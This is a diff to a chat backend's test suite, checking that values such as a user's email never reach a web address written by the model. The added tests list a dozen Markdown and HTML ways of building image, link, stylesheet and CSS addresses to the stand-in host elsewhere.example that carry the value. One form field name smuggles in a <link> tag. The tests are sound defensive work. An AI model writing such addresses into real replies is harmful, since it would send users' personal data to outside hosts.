@@ -6,6 +6,7 @@ import { join } from 'node:path';
 import { before, type TestContext, test } from 'node:test';
 import { type Backend, sendJson, startBackend } from '../../support/backend.ts';
 import { createOperator, HANDSHAKE, spoken } from '../../support/client.ts';
+import { markdownAddresses } from '../../support/markdown-addresses.ts';
 import type { Play } from '../../support/upstream.ts';
 import { pendingOf, readies, type ScriptedChat, startScriptedChat, thread } from './scripted-chat.ts';
 import { upload } from './uploading.ts';
@@ -79,11 +80,58 @@ test('decisions §9: a value is not put into a web address that the model writes
   it.script([...pieces, { call: 'info_card', args: card }]);
   const client = { ...HANDSHAKE, components: ['text', 'info_card'] };
   const answer = await it.say(`I am ${EMAIL}`, { client });
-  const words = `![a](https://elsewhere.example/?q=⟦email⟧) but (${EMAIL}) and mailto:${EMAIL}`;
+  const words = `![a](https://elsewhere.example/?q=⟦email⟧) but (${EMAIL}) and mailto:⟦email⟧`;
   assert.equal(spoken(answer.events), words);
   const [text, shown] = readies(answer.events);
   assert.equal(text?.body.md, words);
   assert.deepEqual(shown?.body.image, { url: 'https://elsewhere.example/⟦email⟧.png', alt: `For ${EMAIL}` }, answer.text);
+});
+
+test('decisions §9: however Markdown spells an address, no reader of the turn gets a value in one: stream, replay and history', async () => {
+  const spellings = [
+    '![](//elsewhere.example/?X) X',
+    '![](https:/elsewhere.example/?X) X',
+    '![](https&#58;//elsewhere.example/?X) X',
+    '![](<//elsewhere.example/? X>) X',
+    '![](https://elsewhere.example/?[(X)]) X',
+    '![e](//elsewhere.example/ "X") X',
+    '![e]\n\n[e]: //elsewhere.example/?X\n\nX',
+    '> ![](\n> //elsewhere.example/?X) X',
+    '<img alt=">" src="//elsewhere.example/?X">\n\nX',
+    '<div style="background:url(//elsewhere.example/?X)">\n\nX',
+    'https://elsewhere.example/?(X) X',
+    'www.elsewhere.example/?X X',
+  ];
+  for (const spelling of spellings) {
+    const whole = spelling.replaceAll('X', '⟦email_1⟧');
+    const turn = { turn_id: randomUUID() };
+    it.script(Array.from(whole, (text) => ({ text })));
+    const answer = await it.say(`I am ${EMAIL}`, turn);
+    const replay = await it.client.send('GET', `/v1/chat/${turn.turn_id}`);
+    const [, told] = await it.stored(thread(answer));
+    const md = String(readies(answer.events)[0]?.body.md);
+    assert.equal(spoken(answer.events), md);
+    assert.equal(told?.blocks[0]?.body.md, md);
+    assert.ok(replay.text.includes(JSON.stringify(md)));
+    const found = markdownAddresses(md).filter(({ text, isBareMail }) => text.includes('ada') && !isBareMail);
+    assert.deepEqual(found, [], md);
+    assert.ok(md.endsWith(EMAIL), `${md}: in the words it is told`);
+  }
+});
+
+test('decisions §9: a form cannot make an address of what is filled in beside its names', async () => {
+  const fields = [
+    { name: 'a\n\n<link rel=stylesheet href="//elsewhere.example/?', label: 'A', type: 'text' },
+    { name: 'mail', label: 'B', type: 'email' },
+  ];
+  it.script([{ call: 'form', args: { title: 'Contact', fields, submit_label: 'Send' } }], [{ text: 'Thanks.' }]);
+  const first = await it.say('Hello');
+  const [form] = readies(first.events);
+  const values = { [fields[0]?.name ?? '']: 'x', mail: EMAIL };
+  const sent = await it.chat({ conversation_id: thread(first), form_submission: { form_id: form?.id, values } });
+  assert.equal(spoken(sent.events), 'Thanks.', sent.text);
+  const said = (await it.stored(thread(first))).filter(({ role }) => role === 'user').at(-1)?.blocks[0]?.body.md;
+  assert.match(String(said), /mail: ⟦email⟧/);
 });
 
 test('decisions §9: a turn that is told again, live or from its rows, is told with the same words', async () => {
